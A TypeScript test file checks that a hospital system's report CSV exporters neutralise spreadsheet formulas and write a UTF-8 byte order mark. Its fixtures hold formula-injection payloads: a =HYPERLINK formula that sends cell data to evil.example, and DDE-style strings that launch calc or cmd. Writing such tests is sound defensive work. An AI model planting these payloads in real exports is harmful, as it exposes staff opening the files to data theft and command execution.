import { describe, expect, it } from "vitest";
import { aggregatesCsv, appointmentsCsv, diagnosesCsv, occupancyCsv, revenueCsv, revenuePerDayCsv } from "./csv";

// Every report's CSV with text a user typed that a spreadsheet would run (a doctor's diagnosis
// `=HYPERLINK(...)` reached the admin's diagnoses CSV), and accents and °C that Excel must read as
// UTF-8: each file starts with the byte order mark and each formula cell is written as text.

const BOM = "\uFEFF";
const EVIL = '=HYPERLINK("https://evil.example/?"&A1,"Open")';
const QUOTED_EVIL = '"\'=HYPERLINK(""https://evil.example/?""&A1,""Open"")"';
const lines = (csv: string) => {
  expect(csv.startsWith(BOM)).toBe(true);
  return csv.slice(1).trimEnd().split("\n");
};

describe("report CSVs", () => {
  it("diagnoses: the description a doctor typed is text, the count a number", () => {
    const csv = diagnosesCsv(
      [
        { code: "R50.9", description: EVIL, count: 7 },
        { code: "@A1", description: "Fièvre à 39 °C", count: 2 },
      ],
      "en",
    );
    expect(lines(csv)).toEqual(["ICD-10 code,Description,Count", `R50.9,${QUOTED_EVIL},7`, "'@A1,Fièvre à 39 °C,2"]);
  });

  it("revenue: a doctor's name is text, amounts stay numbers", () => {
    const csv = revenueCsv(
      {
        from: "2026-03-01",
        to: "2026-03-31",
        currency: "EUR",
        total: { visits: 1, billed: 5000, collected: -250 },
        items: [
          {
            doctorId: "d1",
            doctor: "+Dr Évelyne|' /C calc'!A0",
            billed: 5000,
            collected: -250,
            visits: [{ invoice: "INV-1", date: "2026-03-02", mrn: "H-000001", amount: 5000, collected: -250 }],
          },
        ],
      },
      "en",
    );
    expect(lines(csv)).toEqual([
      "Doctor,Date,Invoice,MRN,Billed (minor units),Collected (minor units),Currency",
      "'+Dr Évelyne|' /C calc'!A0,2026-03-02,INV-1,H-000001,5000,-250,EUR",
    ]);
  });

  it("revenue per day: a negative net stays a number a spreadsheet can sum", () => {
    expect(lines(revenuePerDayCsv([{ day: "2026-03-06", payments: 0, refunds: 2000, net: -2000 }], "en"))).toEqual([
      "Day,Payments (minor units),Refunds (minor units),Net (minor units)",
      "2026-03-06,0,2000,-2000",
    ]);
  });

  it("appointments per day: the mark, then the counts", () => {
    expect(lines(appointmentsCsv([{ day: "2026-03-02", count: 4 }], "fr"))).toEqual([
      "Jour,Rendez-vous",
      "2026-03-02,4",
    ]);
  });

  it("occupancy: a ward's name is text", () => {
    const row = {
      wardId: "w",
      ward: "-Réa 2+cmd|' /C calc'!A0",
      beds: 4,
      occupiedBedDays: 10,
      availableBedDays: 28,
      occupancyPct: 35.7,
      admissions: 3,
      discharges: 2,
    };
    const csv = occupancyCsv(
      { items: [row], total: { ...row, wardId: "", ward: "total" } } as Parameters<typeof occupancyCsv>[0],
      "fr",
    );
    expect(lines(csv)).toEqual([
      "Service,Lits,Journées-lits occupées,Journées-lits disponibles,Taux d'occupation %,Entrées,Sorties",
      "'-Réa 2+cmd|' /C calc'!A0,4,10,28,35.7,3,2",
      "Total,4,10,28,35.7,3,2",
    ]);
  });

  it("public-health aggregates: a department's name is text, '<5' and withheld cells as they are", () => {
    const csv = aggregatesCsv(
      {
        period: "2026-Q1",
        from: "2026-01-01",
        to: "2026-03-31",
        groupBy: "department",
        unit: "consultations",
        total: 17,
        items: [
          { group: "@Cardiologie", count: 12 },
          { group: "Pédiatrie", count: "<5" },
          { group: "Urgences", count: "withheld" },
        ],
      },
      "en",
    );
    expect(lines(csv)).toEqual([
      "Department,Consultations",
      "'@Cardiologie,12",
      "Pédiatrie,<5",
      "Urgences,withheld",
      "Total,17",
    ]);
  });
});
